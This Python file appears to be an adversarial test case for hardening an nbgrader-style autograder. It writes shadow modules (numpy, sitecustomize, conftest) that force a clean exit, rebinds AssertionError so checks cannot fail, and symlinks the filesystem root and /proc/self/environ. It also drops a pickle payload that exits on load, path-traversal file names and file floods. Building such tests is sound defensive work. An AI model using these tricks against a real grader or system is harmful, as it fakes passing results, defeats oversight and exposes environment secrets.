"""Writes modules, pickles, links and thousands of files that the checking process is to take over and use."""

# /// attack
# honest = ["total"]
# ran = ["cell", "scaled", "counts"]
# control = "none: with nbgrader, too, the libraries of tests have been imported before"
# ///
# %% before total
import os
import pickle

for module in ("numpy", "keras", "random", "json", "sitecustomize", "conftest", "helper"):
    with open(f"{module}.py", "w") as file:
        file.write("import os\nos._exit(0)\n")
    os.makedirs(module, exist_ok=True)
    with open(f"{module}/__init__.py", "w") as file:
        file.write("import builtins\nbuiltins.AssertionError = ValueError\n")
os.symlink("/", "root")
os.symlink("/proc/self/environ", "environment.txt")
for number in range(3000):
    open(f"many{number}.txt", "w").close()


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


with open("data.pkl", "wb") as file:
    pickle.dump(Bomb(), file)
ran("cell")


# %% scaled
def scaled(x):
    for name in ("..", "a/../../b", "con", ".bashrc", ".ipython", "a\nb"):
        try:
            with open(name, "w") as file:
                file.write("odd")
        except OSError:
            pass
    with open("numpy.py", "a") as file:
        file.write("raise SystemExit\n")
    ran("scaled")
    return x


# %% counts
def counts(words):
    with open("large.bin", "wb") as file:
        file.write(bytes(10 << 20))
    ran("counts")
    return {}
